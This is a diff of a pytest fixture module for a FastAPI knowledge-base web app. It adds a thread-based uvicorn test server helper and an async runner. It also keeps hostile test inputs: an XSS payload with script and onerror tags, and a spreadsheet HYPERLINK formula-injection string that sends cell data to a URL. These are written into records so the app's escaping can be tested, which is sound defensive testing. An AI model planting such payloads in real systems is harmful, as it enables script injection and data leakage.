@@ -6,10 +6,13 @@ from __future__ import annotations
 import socket
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Awaitable, Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, TypeVar
 
+import anyio
 import pytest
 import uvicorn
 from fastapi import FastAPI
@@ -32,6 +35,7 @@ CHROMIUM_ARGS = [
     "--no-first-run",
 ]
 ARTIFACTS = Path(__file__).resolve().parents[2] / "artifacts" / "web"
+T = TypeVar("T")
 HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
 
@@ -64,8 +68,6 @@ def hostile_kb(
     kb.edit(record, "title", f"Title {HOSTILE}")
     kb.edit(record, "description", f"Description {HOSTILE}")
     kb.edit(record, "organisation", f"Org {HOSTILE}")
-    link = {"as_written": "javascript:alert(1)", "url": "javascript:alert(1)", "problem": None}
-    kb.edit(record, "links", [link])
     kb.edit("gsef2018-fr/4.2.2", "title", FORMULA)  # what a spreadsheet would run
     yield kb
     kb.close()
@@ -96,11 +98,37 @@ def timed_client(
     kb.close()
 
 
+def run_async(main: Callable[[], Awaitable[T]]) -> T:
+    """``anyio.run(main)`` in a thread of its own: the browser tests' Playwright keeps an event
+    loop running in the main thread for the whole session."""
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        return pool.submit(anyio.run, main).result(timeout=60)
+
+
 def _free_port() -> int:
     with socket.socket() as probe:
         probe.bind(("127.0.0.1", 0))
         port: int = probe.getsockname()[1]
         return port
+
+
+@contextmanager
+def serving(app: FastAPI) -> Iterator[str]:
+    """``app`` served by uvicorn in a thread on a free loopback port; stopped on leaving."""
+    port = _free_port()
+    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 10
+    while not server.started:
+        if time.monotonic() > deadline or not thread.is_alive():
+            raise RuntimeError("the test server did not start")
+        time.sleep(0.02)
+    try:
+        yield f"http://127.0.0.1:{port}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=10)
 
 
 @pytest.fixture(scope="session")
@@ -110,21 +138,11 @@ def live_server(app: FastAPI) -> Iterator[str]:
 
 
 def serve_in_thread(app: FastAPI) -> Iterator[str]:
-    """Serve ``app`` on a free loopback port until the generator is closed."""
+    """Serve ``app`` for the browser until the generator is closed (skips without Chromium)."""
     if not CHROMIUM.exists():
         pytest.skip(f"{CHROMIUM} is not installed")
-    port = _free_port()
-    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
-    thread = threading.Thread(target=server.run, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 10
-    while not server.started:
-        if time.monotonic() > deadline:
-            raise RuntimeError("the test server did not start")
-        time.sleep(0.02)
-    yield f"http://127.0.0.1:{port}"
-    server.should_exit = True
-    thread.join(timeout=5)
+    with serving(app) as base:
+        yield base
 
 
 @pytest.fixture(scope="session")
